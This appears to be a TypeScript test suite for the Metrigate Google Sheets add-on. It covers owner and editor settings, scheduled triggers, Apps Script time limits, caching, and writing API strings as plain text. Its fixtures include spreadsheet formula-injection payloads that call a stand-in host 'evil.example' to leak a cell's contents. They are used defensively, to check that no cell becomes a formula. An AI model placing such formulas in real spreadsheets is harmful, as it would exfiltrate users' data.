// The built add-on under what real Google Sheets does and the older harness did not model (issue 12): user
// properties per user with custom functions reading the owner's, triggers that belong to their creator,
// setValues reading strings as typed input, wall-clock limits per execution (30 s custom functions, 6
// minutes triggers) counted from the start, CacheService failures. Each test fails on the add-on before
// the fix; several run on the harness's virtual clock so that minutes of Apps Script time take a moment.

import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { main } from "../cli/main.ts";
import { buildAddon } from "../sheets-addon/src/build.ts";
import { runConcurrently } from "./support/apps-script/concurrent.ts";
import { EXCEEDED } from "./support/apps-script/execution.ts";
import { errorOf, loadProject, OWNER, type AppsScriptProject, type ProjectOptions } from "./support/apps-script/sandbox.ts";
import { startScriptedProcess, startServerProcess, type ServerProcess } from "./support/apps-script/server-process.ts";
import { FakeGoogleSheets } from "./support/google-sheets-api.ts";

const NOW = "2026-03-18T15:30:00Z";
const EDITOR = "editor@example.com";
const METRICS = ["clicks", "leads", "revenue", "cvr", "epc"];

// Offers and a source that Sheets would read as a formula, a date, a number, a boolean, or text with an
// apostrophe of its own: each must arrive as the very text the API sent.
const HOSTILE_OFFER = '=IMAGE("https://evil.example/leak?"&A1)';
const CLICKS = [
  { click_id: "c1", ts: "2026-03-18T05:00:00Z", country: "US", offer: HOSTILE_OFFER, source: "=IMPORTXML(\"https://evil.example\",\"//a\")" },
  { click_id: "c2", ts: "2026-03-18T06:00:00Z", country: "US", offer: "2026-11-02", source: "007" },
  { click_id: "c3", ts: "2026-03-18T07:00:00Z", country: "US", offer: "TRUE", source: "'quoted" },
];

let server: ServerProcess;
let distDir: string;
const projects: AppsScriptProject[] = [];

function project(options: ProjectOptions = {}): AppsScriptProject {
  const made = loadProject(distDir, { timeZone: "America/New_York", ...options });
  projects.push(made);
  return made;
}

function connectOwner(target: AppsScriptProject, url = server.url, apiKey = server.credentials.acme.apiKey): void {
  target.run("saveSettings", { mode: "simple", values: { METRIGATE_URL: url, METRIGATE_API_KEY: apiKey } });
}


beforeAll(async () => {
  distDir = (await buildAddon()).outDir;
  server = await startServerProcess({ now: NOW, workspaces: [{ id: "acme", tables: { tr_clicks: CLICKS } }] });
});
afterAll(async () => {
  for (const p of projects) await p.close();
  await server?.close();
});

describe("owner and editors (user properties are per user; custom functions read the owner's)", () => {
  test("an editor cannot connect, is told whose settings formulas use, and formulas keep working with the owner's", () => {
    const sheet = project();
    connectOwner(sheet);
    const refused = errorOf(() => sheet.runAs(EDITOR, "saveSettings", { mode: "simple", values: { METRIGATE_URL: "https://elsewhere.example" } }));
    expect(refused).toBe(
      `Only the spreadsheet's owner, ${OWNER}, can connect Metrigate: formulas and scheduled refreshes use the owner's settings. Ask them to open Metrigate ▸ Settings and reports.`,
    );
    expect(sheet.services.PropertiesService.ofUser(EDITOR).getKeys()).toEqual([]);
    const state = sheet.runAs(EDITOR, "getSidebarState") as { settings: { who: unknown; whose: string } };
    expect(state.settings.who).toEqual({ user: EDITOR, owner: OWNER, isOwner: false });
    expect(state.settings.whose).toBe(
      `Formulas and scheduled refreshes use the settings of the spreadsheet's owner, ${OWNER}. Only they can connect or change them; your own settings would not be used.`,
    );
    expect(sheet.runAs(EDITOR, "testConnection")).toEqual([`Formulas use the settings of the spreadsheet's owner, ${OWNER}: only they can test them.`]);
    // A formula an editor's edit recalculates runs with the owner's user properties.
    expect(sheet.customFunction("STATS", "today", "US")).toEqual([METRICS, [3, 0, 0, 0, 0]]);
    expect(errorOf(() => sheet.runAs(EDITOR, "refreshAllReports"))).toBe(
      `Reports run with the connection of the spreadsheet's owner, ${OWNER}: ask them to run them, or wait for the scheduled refresh.`,
    );
  });

  test("a spreadsheet in a shared drive has no owner: whoever connects is taken at their word, and told so", () => {
    const sheet = project({ owner: null });
    const view = sheet.runAs(EDITOR, "saveSettings", { mode: "simple", values: { METRIGATE_URL: server.url } }) as { who: unknown; whose: string };
    expect(view.who).toEqual({ user: EDITOR, owner: null, isOwner: true });
    expect(view.whose).toMatch(/^This spreadsheet is in a shared drive, which has no owner/);
  });
});

describe("one refresh per schedule per spreadsheet (triggers belong to their creator)", () => {
  const report = { name: "US offers", endpoint: "STATS", params: { range: "today", country: "US" }, section: "by_offer", sheet: "Offers", cell: "A1", schedule: "hourly" };

  test("an editor's scheduled report waits for the owner, who starts the one refresh; it runs as the owner and shows who and when", () => {
    const sheet = project();
    connectOwner(sheet);
    const { ScriptApp } = sheet.services;
    sheet.runAs(EDITOR, "saveReport", report);
    expect(ScriptApp.triggers).toEqual([]);
    const waiting = sheet.runAs(EDITOR, "getSidebarState") as { schedules: { text: string; running: boolean }[] };
    expect(waiting.schedules).toEqual([
      { schedule: "hourly", running: false, text: `The hourly refresh is not running yet: it starts when ${OWNER} opens Metrigate ▸ Settings and reports.` },
    ]);
    sheet.run("getSidebarState");
    expect(ScriptApp.triggers.map((t) => [t.handler, t.user])).toEqual([["runHourlyReports", OWNER]]);
    // A second editor saving another hourly report adds no trigger.
    sheet.runAs("second@example.com", "saveReport", { ...report, name: "Again", cell: "H1" });
    expect(ScriptApp.triggers.length).toBe(1);

    sheet.fireTriggers("runHourlyReports");
    const offers = sheet.services.SpreadsheetApp.spreadsheet.getSheetByName("Offers");
    // One click each, no revenue: ordered by name.
    expect(offers?.getRange(1, 1, 4, 1).getValues().flat()).toEqual(["offer", "2026-11-02", HOSTILE_OFFER, "TRUE"]);
    const status = sheet.runAs(EDITOR, "getSidebarState") as { schedules: { text: string }[] };
    expect(status.schedules[0].text).toMatch(new RegExp(`^The hourly refresh runs as ${OWNER} \\(with their settings\\); last run 20\\d\\d-.+, every report written\\.$`));
  });

  test("a duplicate trigger (an editor's, from before) removes itself when it fires; an editor's Stop ends the owner's trigger at its next firing", () => {
    const sheet = project();
    connectOwner(sheet);
    const { ScriptApp } = sheet.services;
    sheet.run("saveReport", report);
    // An editor's own hourly trigger, as an older version made one per person who saved.
    sheet.runAs(EDITOR, "getSidebarState");
    sheet.execution.begin("full", EDITOR, 0);
    ScriptApp.newTrigger("runHourlyReports").timeBased().everyHours(1).create();
    sheet.execution.end();
    expect(ScriptApp.triggers.map((t) => t.user)).toEqual([OWNER, EDITOR]);
    const before = sheet.services.UrlFetchApp.requests.length;
    sheet.fireTriggers("runHourlyReports");
    // The owner's trigger ran the report once; the editor's removed itself without a request.
    expect(sheet.services.UrlFetchApp.requests.length).toBe(before + 1);
    expect(ScriptApp.triggers.map((t) => t.user)).toEqual([OWNER]);

    const reports = sheet.runAs(EDITOR, "stopSchedule", "hourly") as { schedule: string }[];
    expect(reports.map((r) => r.schedule)).toEqual(["none"]);
    // The editor cannot delete the owner's trigger; it finds itself unrecorded when it fires, and goes.
    expect(ScriptApp.triggers.map((t) => t.user)).toEqual([OWNER]);
    sheet.fireTriggers("runHourlyReports");
    expect(ScriptApp.triggers).toEqual([]);
    expect(sheet.services.UrlFetchApp.requests.length).toBe(before + 1);
  });
});

describe("saved reports write text as text, the same cells as sheet sync's RAW write", () => {
  let google: FakeGoogleSheets;
  let dir: string;
  beforeAll(async () => {
    google = await new FakeGoogleSheets().start();
    dir = mkdtempSync(join(tmpdir(), "metrigate-addon-raw-"));
  });
  afterAll(async () => {
    await google?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });
  afterEach(() => vi.restoreAllMocks());

  test("formula-like, date-like, number-like and boolean-like API strings stay the API's text; no cell becomes a formula", async () => {
    const reports = [
      { name: "Offers", endpoint: "STATS", params: { range: "today" }, section: "by_offer", sheet: "Stats", cell: "A1" },
      { name: "Sources", endpoint: "STATS", params: { range: "today" }, section: "by_source", sheet: "Stats", cell: "H1" },
    ];
    const sheet = project();
    connectOwner(sheet);
    for (const r of reports) sheet.run("saveReport", { ...r, schedule: "none" });
    sheet.run("refreshAllReports");
    const written = sheet.services.SpreadsheetApp.spreadsheet.getSheetByName("Stats");
    const addonCells = written?.getRange(1, 1, 4, 13).getValues() ?? [];
    expect((written?.getRange(1, 1, 4, 13).getFormulas() ?? []).flat().filter((f) => f !== "")).toEqual([]);
    // Revenue is 0 and each offer has one click: the strings are the point.
    expect(addonCells.map((row) => row[0])).toEqual(["offer", "2026-11-02", HOSTILE_OFFER, "TRUE"]);
    expect(addonCells.map((row) => row[7])).toEqual(["source", "'quoted", "007", '=IMPORTXML("https://evil.example","//a")']);
    expect(addonCells[1][1]).toBe(1);

    google.addSpreadsheet("raw-1", ["Stats"]);
    const config = join(dir, "reports.json");
    writeFileSync(config, JSON.stringify({ url: server.url, reports }));
    vi.spyOn(console, "log").mockImplementation(() => undefined);
    const code = await main(["sheets", "sync", "--spreadsheet", "raw-1", "--config", config], {
      METRIGATE_API_KEY: server.credentials.acme.apiKey,
      METRIGATE_SHEETS_API_URL: google.url,
      GOOGLE_SERVICE_ACCOUNT_KEY: JSON.stringify(google.account),
    });
    expect(code).toBe(0);
    const syncCells = google.values("raw-1", "Stats").slice(0, 4).map((row) => [...row, ...Array(13).fill("")].slice(0, 13));
    expect(addonCells).toEqual(syncCells);
  });
});

describe("time limits, counted in wall-clock time from the start of the execution", () => {
  test("a 20 s Retry-After with slow answers is a sentence in the cell, not 'Exceeded maximum execution time'", async () => {
    const limited = await startScriptedProcess([
      { status: 429, headers: { "Retry-After": "20" }, body: '{"success":false,"error":"Rate limit exceeded."}' },
      { status: 200, body: '{"success":true,"data":{"summary":{"clicks":1,"leads":0,"revenue":0,"cvr":0,"epc":0}}}' },
    ]);
    try {
      // Apps Script took 3 s to start the execution, and every answer takes 8 s.
      const sheet = project({ virtualTime: true, startupMs: 3_000 });
      connectOwner(sheet, limited.url, "mg_live_any");
      sheet.services.UrlFetchApp.latencyMs = () => 8_000;
      const message = errorOf(() => sheet.customFunction("STATS", "today"));
      expect(message).toBe("Rate limited (429): try again in 20 s. Rate limit exceeded.");
      expect(message).not.toBe(EXCEEDED);
      expect(sheet.services.Utilities.sleeps).toEqual([]);
    } finally {
      await limited.close();
    }
  });

  test("a Retry-After given as an HTTP date is waited out, then the call succeeds", async () => {
    // A date some seconds ahead (whole seconds, as HTTP dates are), far from the 60 s fallback.
    const at = new Date(Math.ceil((Date.now() + 14_000) / 1000) * 1000);
    const limited = await startScriptedProcess([
      { status: 429, headers: { "Retry-After": at.toUTCString() }, body: "" },
      { status: 200, body: '{"success":true,"data":{"summary":{"clicks":1,"leads":0,"revenue":0,"cvr":0,"epc":0}}}' },
    ]);
    try {
      const sheet = project({ virtualTime: true });
      connectOwner(sheet, limited.url, "mg_live_any");
      expect(sheet.customFunction("STATS", "today")).toEqual([METRICS, [1, 0, 0, 0, 0]]);
      const [refused, retried] = sheet.services.UrlFetchApp.requests;
      expect([refused.status, retried.status]).toEqual([429, 200]);
      const expected = Math.ceil((at.getTime() - refused.at) / 1000) * 1000;
      expect(expected).toBeGreaterThan(0);
      // Read a few ms after the answer was recorded: the same whole seconds, or one fewer across a boundary.
      expect(sheet.services.Utilities.sleeps.length).toBe(1);
      expect(expected - sheet.services.Utilities.sleeps[0]).toBeGreaterThanOrEqual(0);
      expect(expected - sheet.services.Utilities.sleeps[0]).toBeLessThanOrEqual(1_000);
      expect(retried.at).toBeGreaterThanOrEqual(at.getTime());
    } finally {
      await limited.close();
    }
  });

  test("a scheduled run shares its 6 minutes across reports: it writes and logs what finished and names the reports left for the next run", () => {
    const sheet = project({ virtualTime: true });
    connectOwner(sheet);
    const names = ["r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8"];
    names.forEach((name, i) => sheet.run("saveReport", { name, endpoint: "STATS", params: { range: "today" }, sheet: "Runs", cell: `A${i * 3 + 1}`, schedule: "hourly" }));
    // A slow host: 50 s an answer. Six reports fit in 6 minutes with a whole UrlFetch wait to spare.
    sheet.services.UrlFetchApp.latencyMs = () => 50_000;
    const [batch] = sheet.fireTriggers("runHourlyReports") as { results: { report: string; error: string }[]; left: string[] }[];
    expect(batch.left).toEqual(["r7", "r8"]);
    expect(batch.results.filter((r) => r.error === "").map((r) => r.report)).toEqual(["r1", "r2", "r3", "r4", "r5", "r6"]);
    const log = sheet.services.SpreadsheetApp.spreadsheet.getSheetByName("Metrigate log")?.contents() ?? [];
    expect(log.slice(1).map((row) => [row[1], row[4]])).toEqual([
      ...names.slice(0, 6).map((n) => [n, ""]),
      ["r7", "Not run: this run reached Apps Script's time limit; left for the next run."],
      ["r8", "Not run: this run reached Apps Script's time limit; left for the next run."],
    ]);
    const status = sheet.run("getSidebarState") as { schedules: { text: string }[] };
    expect(status.schedules[0].text).toMatch(/; left for the next run: r7, r8\.$/);
  });
});

describe("identical formulas running at once (each cell is its own execution)", () => {
  test("five identical cells make one request; the others wait for its answer in the cache", async () => {
    const sheet = project();
    connectOwner(sheet);
    // A slow answer, so every cell has started before the first one is answered.
    sheet.services.UrlFetchApp.latencyMs = () => 1_500;
    const outcomes = await runConcurrently(sheet, Array.from({ length: 5 }, () => ({ name: "STATS", args: ["today", "US"] })));
    expect(outcomes).toEqual(Array.from({ length: 5 }, () => ({ value: [METRICS, [3, 0, 0, 0, 0]] })));
    expect(sheet.services.UrlFetchApp.requests.filter((r) => r.url.includes("/api/v1/stats")).length).toBe(1);
  });

  test("different cells at once each make their request, and the pacing log keeps every one of them", async () => {
    const sheet = project();
    connectOwner(sheet);
    sheet.services.UrlFetchApp.latencyMs = () => 300;
    const ranges = ["today", "yesterday", "7days", "30days", "hour"];
    const outcomes = await runConcurrently(sheet, ranges.map((range) => ({ name: "STATS", args: [range] })));
    for (const outcome of outcomes) expect(outcome).toHaveProperty("value");
    expect(sheet.services.UrlFetchApp.requests.length).toBe(5);
    const logs = [...sheet.services.CacheService.script.sizes().keys()].filter((k) => k.startsWith("mg:pace:"));
    expect(logs.length).toBe(1);
    expect(JSON.parse(sheet.services.CacheService.script.get(logs[0]) ?? "[]")).toHaveLength(5);
  });
});

describe("small faults", () => {
  test("a CacheService failure after a good answer still shows the answer", () => {
    const sheet = project();
    connectOwner(sheet);
    sheet.services.CacheService.script.failWrites = "Exception: Service invoked too many times in a short time: cache.";
    expect(sheet.customFunction("STATS", "today", "US")).toEqual([METRICS, [3, 0, 0, 0, 0]]);
  });

  test("a cache hit reads the settings with one properties call and never asks for the time zone", () => {
    const sheet = project();
    connectOwner(sheet);
    sheet.customFunction("STATS", "today", "US");
    const props = sheet.services.PropertiesService.ofUser(OWNER);
    const spreadsheet = sheet.services.SpreadsheetApp.spreadsheet;
    const [reads, zones, requests] = [props.reads, spreadsheet.timeZoneReads, sheet.services.UrlFetchApp.requests.length];
    sheet.customFunction("STATS", "today", "US");
    expect([props.reads - reads, spreadsheet.timeZoneReads - zones, sheet.services.UrlFetchApp.requests.length - requests]).toEqual([1, 0, 0]);
  });

  test("a URL over UrlFetch's length limit says what is wrong instead of 'cannot reach'", () => {
    const sheet = project();
    connectOwner(sheet);
    const countries = Array.from({ length: 26 * 26 }, (_, i) => String.fromCharCode(65 + Math.floor(i / 26), 65 + (i % 26))).join(",");
    expect(errorOf(() => sheet.customFunction("STATS", "today", countries))).toMatch(
      /^The request is \d+ characters long, over the 2048 Apps Script allows for a URL: ask for fewer countries, offers or sources at once\.$/,
    );
  });

  test("a report from the sidebar with section null (how an unset field may arrive) is saved", () => {
    const sheet = project();
    const saved = sheet.run("saveReport", { name: "Totals", endpoint: "STATS", params: {}, section: null, sheet: "S", cell: "A1", schedule: "none" }) as { section?: string }[];
    expect(saved[0].section).toBeUndefined();
  });
});
